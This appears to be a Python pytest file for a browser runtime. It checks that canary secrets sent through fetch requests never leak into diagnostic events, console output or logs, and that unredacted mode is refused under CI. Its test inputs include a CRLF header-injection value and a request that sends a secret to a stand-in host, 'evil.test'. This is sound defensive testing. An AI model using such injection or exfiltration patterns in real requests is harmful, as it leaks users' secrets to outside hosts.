"""ADV-05: telemetry exfiltration. Secrets handed to the runtime never come out of its events.

The canaries go in through the real pipeline (`cx.fetch` -> authorize -> host -> diagnostics ->
every sink), not through hand-built events: userinfo, query values, fragments, header values,
bodies, server and exception text, secrets smuggled into metadata fields, and secrets in bound
context. Each sink's whole output is searched. Mode `none` stays refused when CI is set, also
on the path the browser host takes.
"""

from __future__ import annotations

import io
import logging

import pytest

from browser_rt import Cx, FetchAuthority
from browser_rt.diagnostics import (
    ConsoleSink,
    Diagnostics,
    DiagnosticsConfigError,
    LoggingSink,
    MemorySink,
    StreamConsole,
)
from browser_rt.fetch import FetchDenied, FetchError, NetworkError, authorized_fetch
from browser_rt.host.embed import EmbeddedRuntime
from browser_rt.lab import LabRuntime

API = "https://api.example.com"
AUTHORITY = FetchAuthority.from_dict({"origins": [API], "methods": ["GET", "POST"], "max_header_count": 4})
WINDOW = 8


def canary(place: str) -> str:
    return f"Cx{place[:4]}7f3a9d2b41e6c058"


def leaks(text: str, secrets: list[str]) -> list[str]:
    return sorted(
        {s[i : i + WINDOW] for s in secrets for i in range(len(s) - WINDOW + 1) if s[i : i + WINDOW] in text}
    )


class Outputs:
    """Every kind of sink, with its rendered output as one string."""

    def __init__(self, name: str) -> None:
        self.memory = MemorySink()
        self.stream = io.StringIO()
        self.logged = io.StringIO()
        logger = logging.getLogger(f"browser_rt.adversarial.{name}")
        logger.handlers = [logging.StreamHandler(self.logged)]
        logger.setLevel(logging.DEBUG)
        logger.propagate = False
        self.sinks = [self.memory, ConsoleSink(StreamConsole(self.stream)), LoggingSink(logger)]

    def text(self) -> str:
        return repr(self.memory.events) + self.stream.getvalue() + self.logged.getvalue()


class LeakyError(RuntimeError):
    pass


@pytest.mark.parametrize("mode", ["metadata_only", "strict"])
def test_no_secret_from_any_request_reaches_any_sink(mode: str) -> None:
    secrets = {
        p: canary(p) for p in ("userinfo", "query", "fragment", "auth", "apikey", "body", "server", "except")
    }
    out = Outputs(mode)
    lab = LabRuntime(seed=15)
    lab.fetch_host.respond(
        f"{API}/ok?token={secrets['query']}#{secrets['fragment']}", method="POST", body=b"{}"
    )
    lab.fetch_host.fail(f"{API}/down", code="network")

    class RaisingHost:
        async def fetch(self, request: object) -> object:
            raise LeakyError(f"upstream said {secrets['except']}")

    async def main(cx: Cx) -> None:
        await cx.fetch(
            f"{API}/ok?token={secrets['query']}#{secrets['fragment']}",
            method="POST",
            headers=[("Authorization", f"Bearer {secrets['auth']}"), ("X-API-Key", secrets["apikey"])],
            body=f'{{"password": "{secrets["body"]}"}}',
        )
        for url, kwargs in (
            (f"https://admin:{secrets['userinfo']}@api.example.com/", {}),
            (f"{API}/x", {"headers": {"x-a": f"{secrets['auth']}\r\nHost: evil"}}),
            (f"https://evil.test/?k={secrets['query']}", {}),
            (f"{API}/x", {"method": "DELETE", "body": secrets["body"]}),
        ):
            with pytest.raises(FetchDenied):
                await cx.fetch(url, **kwargs)
        with pytest.raises(NetworkError):
            await cx.fetch(f"{API}/down", headers={"Authorization": secrets["auth"]})

    diagnostics = Diagnostics(mode=mode, sinks=out.sinks, clock=lab.loop.time).bind(
        task="main", replay="LabRuntime(seed=15)"
    )
    lab.run(main, authority=AUTHORITY, diagnostics=diagnostics)
    with pytest.raises(LeakyError):
        LabRuntime(seed=15).run_until_complete(
            authorized_fetch(AUTHORITY, RaisingHost(), diagnostics, f"{API}/y?s={secrets['query']}")  # type: ignore[arg-type]
        )
    diagnostics.emit(
        "fetch.error", error=NetworkError(f"server said {secrets['server']}"), message=secrets["server"]
    )
    assert len(out.memory.events) >= 8
    assert API in out.stream.getvalue() and API in out.logged.getvalue(), "every sink saw the events"
    assert leaks(out.text() + secrets["auth"], list(secrets.values())) != [], "the search would see a leak"
    assert leaks(out.text(), list(secrets.values())) == []


def test_secrets_smuggled_into_metadata_fields_are_dropped() -> None:
    secret = canary("meta")
    sink = MemorySink()
    Diagnostics(sinks=[sink]).emit(
        "fetch.decision",
        origin=f"https://api.example.com/?token={secret}",
        reason=f"denied {secret}",
        detail=f"headers[0]: value {secret}",
        method=secret,
        status=secret,
        code=f"{secret}!",
        region=f"{secret} x",
    )
    (record,) = sink.events
    assert leaks(repr(record), [secret]) == []
    assert {"origin", "reason", "detail", "status", "code", "region"} <= set(record["invalid_fields"])


def test_fetch_errors_carry_their_code_and_type_never_their_text() -> None:
    secret = canary("error")
    sink = MemorySink()
    Diagnostics(sinks=[sink]).emit("fetch.error", code="network", error=FetchError(secret), message=secret)
    (record,) = sink.events
    assert record["error"] == {"type": "FetchError"} and record["message"] == {"chars": len(secret)}


@pytest.mark.parametrize("ci", [True])
def test_unredacted_mode_is_refused_under_ci_on_every_entry_point(ci: bool) -> None:
    with pytest.raises(DiagnosticsConfigError, match="refused because CI is set"):
        Diagnostics(mode="none", allow_unredacted=True, ci=ci)

    class NoHost:
        async def fetch(self, request: object) -> object:
            raise AssertionError("never called")

    with pytest.raises(DiagnosticsConfigError, match="refused because CI is set"):
        EmbeddedRuntime(
            "{}", fetch_host=NoHost(), host_event=None, diagnostics_mode="none", allow_unredacted=True, ci=ci
        )
